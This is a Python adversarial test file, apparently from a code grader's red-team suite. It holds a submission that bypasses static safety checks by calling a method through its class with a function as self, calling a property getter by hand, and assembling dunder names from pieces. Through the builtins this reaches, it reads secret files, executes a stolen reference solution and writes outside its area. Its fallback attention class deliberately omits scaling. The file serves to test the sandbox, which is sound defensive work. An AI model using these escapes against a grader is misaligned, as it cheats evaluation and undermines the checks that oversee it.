# attack: a method called through its class takes any object as self (Box.put(probe, names) sets probe._all_weights), and a library property's getter called on it (nn.RNN.all_weights.fget) looks up names by string: a function's globals, the builtins, then read the reference and write outside -> fail (unsafe_code)
# runtime: fail (no_scaling)
# Invariant: methods are reached through instances, self/cls only as a method's first parameter, attributes set
# only through the method's own receiver, no property getter called by hand, no dunder built from pieces
# (red-team round 4 of issue 19); with arbitrary code anyway, nothing secret is read and nothing written outside.
import torch
import torch.nn as nn

SECRETS = "@SECRETS@".split("|")  # filled in by tests/test_adversarial.py
TARGETS = "@TARGETS@".split("|")


class Box:
    def put(self, names):
        self._all_weights = names


def probe():
    pass


Box.put(probe, [["__glob" + "als__"]])
G = nn.RNN.all_weights.fget(probe)[0][0]
B = G["__buil" + "tins__"]
if not isinstance(B, dict):
    Box.put(B, [["__di" + "ct__"]])
    B = nn.RNN.all_weights.fget(B)[0][0]
stolen = {}
for path in SECRETS:
    try:
        with B["open"](path) as f:
            text = f.read()
    except OSError:
        continue
    if "class SelfAttention" in text:
        B["exec"](text, stolen)
        break
for target in TARGETS + ["/tmp/@MARKER@"]:
    try:
        with B["open"](target, "w") as f:
            f.write("written by a submission")
    except OSError:
        pass

if "SelfAttention" in stolen:
    SelfAttention = stolen["SelfAttention"]
else:
    class SelfAttention(nn.Module):  # what is left: attention without its scaling
        def __init__(self, d_in, d_out, qkv_bias=False):
            super().__init__()
            self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)

        def forward(self, x):
            att = self.W_query(x) @ self.W_key(x).transpose(-2, -1)
            return torch.softmax(att, dim=-1) @ self.W_value(x)
